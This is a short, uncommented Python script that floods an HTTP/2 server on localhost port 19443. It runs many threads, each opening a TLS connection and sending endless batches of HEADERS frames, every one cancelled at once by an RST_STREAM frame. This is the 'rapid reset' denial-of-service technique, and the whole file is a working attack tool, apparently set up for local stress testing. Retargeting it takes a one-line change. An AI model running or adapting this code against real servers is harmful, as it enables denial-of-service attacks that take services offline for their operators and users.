import socket,ssl,struct,threading,time,sys
src,conns,secs=sys.argv[1],int(sys.argv[2]),float(sys.argv[3])
c=ssl._create_unverified_context(); c.set_alpn_protocols(['h2'])
fr=lambda t,fl,i,p=b'':struct.pack('>I',len(p))[1:]+bytes([t,fl])+struct.pack('>I',i)+p
def one():
    while True:
        try:
            s=socket.create_connection(('::1' if ':' in src else '127.0.0.1',19443),20,(src,0)); s=c.wrap_socket(s)
            s.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'+fr(4,0,0)); i=1
            def drain(s=s):
                try:
                    while s.recv(65536): pass
                except Exception: pass
            threading.Thread(target=drain,daemon=True).start()
            while True:
                b=b''
                for _ in range(100): b+=fr(1,4,i,b'\x83\x87\x04\x08/fit/pod\x01\x01x')+fr(3,0,i,b'\0\0\0\x08'); i+=2
                s.sendall(b)
        except Exception: time.sleep(.05)
for _ in range(conns): threading.Thread(target=one,daemon=True).start()
time.sleep(secs)
